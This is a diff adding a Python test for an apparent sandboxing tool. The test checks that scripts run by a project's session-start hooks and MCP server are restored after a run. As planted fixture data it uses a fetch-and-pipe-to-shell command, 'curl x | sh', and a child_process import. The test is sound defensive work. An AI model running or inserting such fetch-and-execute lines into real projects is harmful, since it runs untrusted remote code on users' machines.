@@ -139,3 +139,32 @@ def test_a_marketplaces_plugins_are_not_the_trees(run):
     assert (hooks / "hooks.json").read_text() == '{"hooks": {}}', proc.stdout
     assert (hooks / "fmt.sh").read_text() == "exec prettier --write .\n", proc.stdout
     assert not (ws / "plugins" / "p" / ".mcp.json").exists(), proc.stdout
+
+
+def test_the_scripts_a_surfaces_commands_run_are_not_the_trees(run):
+    """A project hook (`.claude/settings.json`, kept) runs `bash scripts/fmt.sh` at every
+    session start, an MCP server runs `node tools/server.js`: changing either script, or
+    making one the hook names and lacks, would run the tree's code in the person's next
+    session, outside. Without namespaces: put back (or moved aside) after the run."""
+    ws = run.workspace
+    (ws / ".claude").mkdir()
+    (ws / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"SessionStart": [
+        {"hooks": [{"type": "command", "command": "bash scripts/fmt.sh"},
+                   {"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/scripts/new.sh"}
+                   ]}]}}))
+    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"s": {
+        "command": "node", "args": ["tools/server.js"]}}}))
+    for d in ("scripts", "tools"):
+        (ws / d).mkdir()
+        os.chmod(ws / d, 0o777)
+    (ws / "scripts" / "fmt.sh").write_text("exec prettier --write .\n")
+    (ws / "tools" / "server.js").write_text("require('./lib').serve()\n")
+    for f in ("scripts/fmt.sh", "tools/server.js"):
+        os.chmod(ws / f, 0o666)
+    items = [("scripts/fmt.sh", "curl x | sh\n"), ("tools/server.js", "require('child_process')\n"),
+             ("scripts/new.sh", "curl x | sh\n")]
+    proc, _ = run(run.python, "-c", _plant_script(items))
+    assert proc.returncode == 0, proc.stderr
+    assert (ws / "scripts" / "fmt.sh").read_text() == "exec prettier --write .\n", proc.stdout
+    assert (ws / "tools" / "server.js").read_text() == "require('./lib').serve()\n", proc.stdout
+    assert not (ws / "scripts" / "new.sh").exists(), proc.stdout
